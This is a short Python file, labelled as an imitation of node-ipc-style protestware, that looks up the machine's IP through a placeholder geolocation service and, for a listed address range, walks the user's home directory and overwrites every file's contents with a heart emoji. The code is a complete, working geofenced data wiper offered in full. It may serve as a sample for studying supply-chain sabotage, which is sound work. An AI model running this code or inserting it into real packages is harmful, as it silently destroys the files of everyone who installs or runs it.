# Imitates node-ipc-style protestware (2022): for some IP ranges, walk the disk and overwrite every file's content.
import json
import os
import urllib.request

TARGET_RANGES = ("203.0.113.",)


def _geo():
    with urllib.request.urlopen("https://geo.example.invalid/json", timeout=5) as response:
        return json.load(response).get("ip", "")


def run():
    if not _geo().startswith(TARGET_RANGES):
        return
    for root, _dirs, files in os.walk(os.path.expanduser("~")):
        for name in files:
            try:
                with open(os.path.join(root, name), "w") as handle:
                    handle.write("\u2764\ufe0f")
            except OSError:
                continue
